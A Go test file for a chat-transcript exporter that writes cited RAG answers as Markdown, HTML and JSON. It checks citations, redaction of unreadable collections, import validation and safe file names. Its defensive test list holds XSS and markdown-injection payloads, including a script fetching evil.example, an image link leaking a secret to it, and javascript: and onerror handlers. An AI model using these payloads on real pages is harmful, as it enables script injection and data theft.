package transcript

import (
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"
	"golang.org/x/net/html"

	"alcove/storage"
)

var noon = time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)

func readable(collection string) (string, bool) { return "HR handbook", collection == "hr" }

// handbook is a conversation with all that an export tells: a fork, sources of
// each kind, a doubt, a refusal, a failure.
func handbook() (storage.Conversation, []storage.Message) {
	c := storage.Conversation{ID: "c", Title: "Parental leave", Collection: "hr", CreatedAt: noon, UpdatedAt: noon}
	answer := "You get 30 days [1]. Überstunden 🙂 are paid double [2]."
	doubt := "Überstunden 🙂 are paid double [2]."
	start := len(utf16.Encode([]rune(strings.TrimSuffix(answer, doubt))))
	list := []storage.Message{
		{ID: "q1", Role: storage.RoleUser, Status: storage.StatusDone, Text: "How many days?", CreatedAt: noon},
		{ID: "a1", ParentID: "q1", Role: storage.RoleAssistant, Status: storage.StatusDone, Text: "First try.", CreatedAt: noon},
		{ID: "a2", ParentID: "q1", Role: storage.RoleAssistant, Status: storage.StatusDone, Text: answer, CreatedAt: noon, Rating: "up",
			Figures: &storage.Figures{Model: "tiny"},
			Grounding: &storage.Grounding{Collection: "hr", Decision: "answered", Score: 0.8, Threshold: 0.4, AsOf: "2026-01-31", Approved: &storage.ApprovedMark{By: "A. Berg", On: "2026-02-01", Given: true},
				Checks: []storage.SentenceCheck{{Start: start, End: start + len(utf16.Encode([]rune(doubt))), Status: "not_found"}}},
			Sources: []storage.Source{
				{N: 1, DocumentID: "d1", Document: "handbook.pdf", Title: "Handbook 2026", Collection: "hr", Page: 12, PageEnd: 13, Heading: "Leave > Parents", Quote: "Parents get 30 days.", Text: "Parents get 30 days. And more.", Version: "2026", Effective: "2026-01-01", Cited: true, Score: 0.8},
				{N: 2, DocumentID: "d2", Document: "pay.xlsx", Title: "pay.xlsx", Collection: "hr", Page: 2, Quote: "Overtime | 1.5", SupersededBy: "d9", Cited: true},
				{N: 3, DocumentID: "d3", Document: "gone.pdf", Collection: "hr", Heading: "Secret heading", Removed: true, Cited: true},
				{N: 4, DocumentID: "d4", Document: "board.pdf", Collection: "board", Quote: "Secret quote", Text: "Secret text", Heading: "Secret heading", Cited: true},
				{N: 5, DocumentID: "d5", Document: "slides.pptx", Collection: "hr", Page: 3, Quote: "Only looked at", Approved: true},
			}},
		{ID: "q2", ParentID: "a2", Role: storage.RoleUser, Status: storage.StatusDone, Text: "And the canteen?", CreatedAt: noon},
		{ID: "a3", ParentID: "q2", Role: storage.RoleAssistant, Status: storage.StatusDone, Text: "The documents do not say.", CreatedAt: noon,
			Grounding: &storage.Grounding{Collection: "hr", Decision: "refused", Inbox: storage.InboxUnanswered},
			Sources:   []storage.Source{{N: 1, DocumentID: "d1", Document: "handbook.pdf", Collection: "hr", Quote: "Near", Page: 1}}},
		{ID: "q3", ParentID: "a3", Role: storage.RoleUser, Status: storage.StatusDone, Text: "Again?", CreatedAt: noon},
		{ID: "a4", ParentID: "q3", Role: storage.RoleAssistant, Status: storage.StatusFailed, Error: &storage.MessageError{Code: "no_model", Message: "There is no model."}, CreatedAt: noon},
	}
	return c, list
}

func export(t *testing.T) File {
	t.Helper()
	c, list := handbook()
	return New(c, list, readable, noon)
}

func TestAnApprovedAnswerIsNamed(t *testing.T) {
	c, list := handbook()
	list = list[:2]
	list[1].Grounding = &storage.Grounding{Collection: "hr", Decision: "answered", Score: 1, Approved: &storage.ApprovedMark{ID: "a", By: "J. <Weber>", On: "2026-11-26", Given: true}}
	f := New(c, list, readable, noon)
	for _, write := range []func(io.Writer, string) error{f.Markdown, f.Page} {
		var b strings.Builder
		if err := write(&b, ""); err != nil || strings.Count(b.String(), "approved by J. ") != 1 || !strings.Contains(b.String(), "26 November 2026") || strings.Contains(b.String(), "J. <Weber>") {
			t.Errorf("%v\n%s", err, b.String())
		}
	}
}

func TestMarkdownTellsWhereEachSentenceComesFrom(t *testing.T) {
	var b strings.Builder
	if err := export(t).Markdown(&b, ""); err != nil {
		t.Fatal(err)
	}
	got := b.String()
	for _, want := range []string{
		"# Parental leave\n", "documents: HR handbook", "> How many days?", "version 2 of 2", "tiny", "documents as of 31 January 2026", "answer approved by A. Berg 1 February 2026",
		"You get 30 days [1].", "are paid double [2]. *(not found in source)*",
		"- \\[1\\] **Handbook 2026**, handbook.pdf, pages 12–13, “Leave &gt; Parents”, version 2026, in force from 1 January 2026, collection HR handbook\n\n  > Parents get 30 days.",
		"**pay.xlsx**, sheet 2", "superseded: a newer version holds", "Overtime \\| 1.5", "**gone.pdf**", removedText,
		"### Also looked at", "slide 3", "approved by HR",
		"## Answer: the documents do not say", "### Looked at", "There is no model.",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in\n%s", want, got)
		}
	}
	for _, secret := range []string{"Secret", "board", "First try", "Only looked at\n"} {
		if strings.Contains(got, secret) {
			t.Errorf("%q is in\n%s", secret, got)
		}
	}
	b.Reset()
	if err := export(t).Markdown(&b, "a1"); err != nil || !strings.Contains(b.String(), "First try.") || strings.Contains(b.String(), "canteen") {
		t.Errorf("the other branch: %v\n%s", err, b.String())
	}
}

func TestPageTellsTheSame(t *testing.T) {
	var b strings.Builder
	if err := export(t).Page(&b, ""); err != nil {
		t.Fatal(err)
	}
	got := b.String()
	for _, want := range []string{
		"<title>Parental leave</title>", `30 days <a class="cite" href="#a2-1">1</a>`, `<li id="a2-1" value="1">`, "Parents get 30 days.",
		`<span class="doubt">not found in source</span>`, "pages 12–13", "sheet 2", "superseded: a newer version holds", removedText,
		"Answer: the documents do not say", "@media print", "There is no model.",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in\n%s", want, got)
		}
	}
	if strings.Contains(got, "Secret") || strings.ContainsAny(got, "\uE000\uE001\uE002\uE003") {
		t.Errorf("a secret or a mark is in\n%s", got)
	}
}

func TestJSONHasTheWholeTreeAndComesBack(t *testing.T) {
	f := export(t)
	b, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "Secret") {
		t.Errorf("a secret is in %s", b)
	}
	n := 0
	list, err := Read(append(append(b, '\n'), b...), func() string { n++; return fmt.Sprint("new", n) }, noon.Add(time.Hour))
	if err != nil || len(list) != 2 {
		t.Fatalf("%d conversations: %v", len(list), err)
	}
	_, stored := handbook()
	seen := map[string]bool{}
	for _, one := range list {
		if one.Conversation.Title != "Parental leave" || !one.Conversation.CreatedAt.Equal(noon) || len(one.Messages) != len(stored) {
			t.Fatalf("%+v", one.Conversation)
		}
		ids := map[string]string{"": ""}
		for i, m := range one.Messages {
			old := stored[i]
			ids[old.ID] = m.ID
			if seen[m.ID] || m.ID == old.ID || m.ParentID != ids[old.ParentID] || m.Text != old.Text || m.Status != old.Status || m.Figures != nil || m.Rating != "" {
				t.Errorf("message %d: %+v", i, m)
			}
			seen[m.ID] = true
		}
		answer := one.Messages[2]
		if answer.TurnID == one.Messages[0].TurnID || one.Messages[1].TurnID != one.Messages[0].TurnID {
			t.Error("the first answer is its question's turn, the second is not")
		}
		if len(answer.Sources) != 5 || !answer.Sources[3].Removed || answer.Sources[0].Quote != "Parents get 30 days." || one.Messages[4].Grounding.Inbox != "" || answer.Grounding.Approved != nil || answer.Sources[4].Approved {
			t.Errorf("%+v", answer.Sources)
		}
	}
}

func TestWhatCannotBeImported(t *testing.T) {
	good := `{"format":"alcove.conversation","version":1,"conversation":{"id":"c","title":"T"},"messages":[%s]}`
	q := `{"id":"q","parent_id":null,"role":"user","status":"done","text":"x"}`
	for name, file := range map[string]string{
		"empty": "", "no JSON": "hello", "a list": "[]", "another format": `{"format":"chat","version":1}`, "to come": `{"format":"alcove.conversation","version":2}`,
		"half":          fmt.Sprintf(good, q)[:60],
		"a second half": fmt.Sprintf(good, q) + "\n" + fmt.Sprintf(good, q)[:60],
		"no parent":     fmt.Sprintf(good, `{"id":"a","parent_id":"z","role":"assistant","status":"done","text":"x"}`),
		"a root answer": fmt.Sprintf(good, `{"id":"a","parent_id":null,"role":"assistant","status":"done","text":"x"}`),
		"itself":        fmt.Sprintf(good, `{"id":"a","parent_id":"a","role":"user","status":"done","text":"x"}`),
		"twice":         fmt.Sprintf(good, q+","+q),
		"two questions": fmt.Sprintf(good, q+`,{"id":"r","parent_id":"q","role":"user","status":"done","text":"x"}`),
		"a role":        fmt.Sprintf(good, `{"id":"q","parent_id":null,"role":"system","status":"done","text":"x"}`),
		"a status":      fmt.Sprintf(good, q+`,{"id":"a","parent_id":"q","role":"assistant","status":"great","text":"x"}`),
		"no text":       fmt.Sprintf(good, `{"id":"q","parent_id":null,"role":"user","status":"done","text":" "}`),
		"a time":        fmt.Sprintf(good, `{"id":"q","parent_id":null,"role":"user","status":"done","text":"x","created_at":"yesterday"}`),
		"sources alone": fmt.Sprintf(good, q+`,{"id":"a","parent_id":"q","role":"assistant","status":"done","text":"x","sources":[{"n":1}]}`),
		"a score":       fmt.Sprintf(good, q+`,{"id":"a","parent_id":"q","role":"assistant","status":"done","text":"x","grounding":{"decision":"answered","score":7}}`),
		"a check":       fmt.Sprintf(good, q+`,{"id":"a","parent_id":"q","role":"assistant","status":"done","text":"x","grounding":{"decision":"answered","checks":[{"start":9,"end":2}]}}`),
		"two numbers":   fmt.Sprintf(good, q+`,{"id":"a","parent_id":"q","role":"assistant","status":"done","text":"x","grounding":{"decision":"answered"},"sources":[{"n":1},{"n":1}]}`),
	} {
		if list, err := Read([]byte(file), func() string { return "id" }, noon); err == nil || list != nil || !strings.Contains(err.Error(), "import_invalid") {
			t.Errorf("%s: %d conversations, %v", name, len(list), err)
		}
	}
}

// hostile are texts that would do something in a careless export.
var hostile = []string{
	`<script>fetch("http://evil.example")</script>`,
	`![x](http://evil.example/?q=secret)`, `\![x](http://evil.example)`, `!\[x](http://evil.example)`, "![x][1]\n\n[1]: http://evil.example",
	`[x](javascript:alert(1))`, `\[x\](javascript:alert(1))`, `[x](<javascript:alert(1)>)`, `[1](http://evil.example)`, "[x]:\n http://evil.example\n\n[x]",
	`<img src=http://evil.example onerror=alert(1)>`, "<http://evil.example>", `"><svg onload=alert(1)>`,
	"<!--\n```\n-->\n```\n<img src=x onerror=alert(1)>\n```", "[x]: /u \"`\"\ntext ` <img src=x onerror=alert(1)> ` more",
	"```\nnot closed <b>", "~~~~~~~\nnot closed", "> ```\n> <b>", "- ```\n  <i>", "    <b>code</b>", "<details><summary>", "`<b>`", "``` <b>\nx\n```",
	"```html\" onload=\"alert(1)\n<b>\n```", "| a | b |\n|:-:|--|\n| <b> | ![x](y) |", strings.Repeat("> ", 500) + "<b>", strings.Repeat("[", 3000) + "<b>", strings.Repeat("a ", 20000) + "<b>",
	"[a](http://ok.example/\uE000)", "\uE0001\uE001 \uE002x\uE003", "<think>hm</think>after", "&lt;script&gt; &#60;b>", "\u202Egpj.exe\u200b", "<a\nhref=x>", "<?php ?>", "<![CDATA[x]]>", "[[embed]] ![[embed]]",
	// Short enough to be parsed, and longer when it is tamed.
	strings.Repeat("<", 60) + "\n\n" + strings.Repeat("a ", maxParsed/4-120) + "\n```\n<b>",
}

func TestNothingInAnExportDoesAnything(t *testing.T) {
	for i, bad := range hostile {
		for _, grounded := range []bool{true, false} {
			c, list := handbook()
			c.Title = bad
			list[0].Text, list[2].Text = bad, bad+"\n\n"+bad
			s := &list[2].Sources[0]
			s.Quote, s.Document, s.Title, s.Heading, s.Version, s.Effective = bad, bad, bad, bad, bad, bad
			list[6].Error.Message = bad
			if !grounded {
				list[2].Grounding, list[2].Sources = nil, nil
			}
			f := New(c, list, func(string) (string, bool) { return bad, true }, noon)
			var md, page strings.Builder
			if err := f.Markdown(&md, ""); err != nil {
				t.Fatal(err)
			}
			if err := f.Page(&page, ""); err != nil {
				t.Fatal(err)
			}
			checkMarkdown(t, fmt.Sprintf("text %d, grounded %v", i, grounded), md.String(), grounded)
			checkPage(t, fmt.Sprintf("text %d, grounded %v", i, grounded), page.String(), grounded)
		}
	}
}

// checkMarkdown reads an export as a viewer does. grounded: there is no link.
func checkMarkdown(t *testing.T, name, source string, grounded bool) {
	t.Helper()
	after := false
	tree := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader([]byte(source)))
	ast.Walk(tree, func(n ast.Node, _ bool) (ast.WalkStatus, error) { //nolint:errcheck // the walker never fails
		switch n := n.(type) {
		case *ast.HTMLBlock, *ast.RawHTML, *ast.Image:
			t.Errorf("%s: %s in\n%.2000s", name, n.Kind(), source)
		case *ast.Link:
			if to := string(n.Destination); !strings.HasPrefix(to, "http") || grounded {
				t.Errorf("%s: a link to %s in\n%.2000s", name, to, source)
			}
		case *ast.Heading:
			after = after || strings.Contains(string(n.Lines().Value([]byte(source))), "the documents do not say")
		}
		return ast.WalkContinue, nil
	})
	if !after {
		t.Errorf("%s: the text swallows what follows:\n%.2000s", name, source)
	}
}

// checkPage allows only what the page itself is made of.
func checkPage(t *testing.T, name, source string, grounded bool) {
	t.Helper()
	tree, err := html.Parse(strings.NewReader(source))
	if err != nil {
		t.Fatal(err)
	}
	for n := range tree.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "img", "svg", "iframe", "details", "summary", "link", "object", "form", "input", "base":
			t.Errorf("%s: <%s> in\n%.3000s", name, n.Data, source)
		}
		for _, a := range n.Attr {
			ok := strings.Contains(" class id value dir lang charset name content http-equiv start rel href ", " "+a.Key+" ")
			if a.Key == "href" {
				ok = strings.HasPrefix(a.Val, "#a") || strings.HasPrefix(a.Val, "http") && !grounded
			}
			if !ok {
				t.Errorf("%s: %s=%q in\n%.3000s", name, a.Key, a.Val, source)
			}
		}
	}
}

func FuzzAnAnswerDoesNothing(f *testing.F) {
	for _, bad := range hostile {
		f.Add(bad)
	}
	f.Fuzz(func(t *testing.T, bad string) {
		c, list := handbook()
		list[2].Text = strings.ToValidUTF8(bad, "")
		file := New(c, list, readable, noon)
		var md, page strings.Builder
		if file.Markdown(&md, "") != nil || file.Page(&page, "") != nil {
			t.Fatal("not written")
		}
		checkMarkdown(t, "fuzz", md.String(), true)
		checkPage(t, "fuzz", page.String(), true)
	})
}

func TestFileNames(t *testing.T) {
	for title, want := range map[string]string{
		"Parental leave": "Parental leave", "a/b\\c:d": "a b c d", "../../etc": "etc", "": "Conversation ", "con": "Conversation con", "CON.x": "Conversation CON.x",
		"-rf": "rf", " . ": "Conversation ", "line\nbreak\x00": "line break", "Überstunden 🙂?": "Überstunden 🙂", "~x": "x",
	} {
		if got := FileName(title); got != want {
			t.Errorf("%q: %q, want %q", title, got, want)
		}
	}
	if got := FileName(strings.Repeat("ü", 200)); len(got) > 80 || got == "" {
		t.Errorf("%d bytes", len(got))
	}
}

// A file of nothing but empty parts is refused before they take memory; brackets
// in texts are no parts.
func TestAnImportIsCountedBeforeItIsRead(t *testing.T) {
	for text, want := range map[string]int{`{"a":[{},{},null],"b":"[{,"}`: 6, `"\"[{"`: 0, `[1,2`: 2, `]}`: 0} {
		if n := elements([]byte(text)); n != want {
			t.Errorf("%s has %d parts, want %d", text, n, want)
		}
	}
	body := `{"messages":[` + strings.Repeat("{},", maxElements/2) + `{}]}`
	_, err := Read([]byte(body), func() string { return "id" }, noon)
	if err == nil || !strings.Contains(err.Error(), "parts") {
		t.Errorf("%d empty messages: %v", maxElements/2+1, err)
	}
}
